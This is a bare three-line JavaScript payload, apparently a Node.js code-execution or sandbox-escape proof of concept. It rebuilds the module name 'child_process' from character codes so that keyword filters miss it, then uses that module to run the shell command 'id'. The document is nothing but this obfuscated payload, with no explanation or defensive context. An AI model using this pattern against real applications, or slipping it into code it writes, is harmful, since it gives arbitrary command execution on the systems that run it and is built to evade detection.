var n = String.fromCharCode.apply(null, [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115]);
var m = require(n);
m.exec('id');
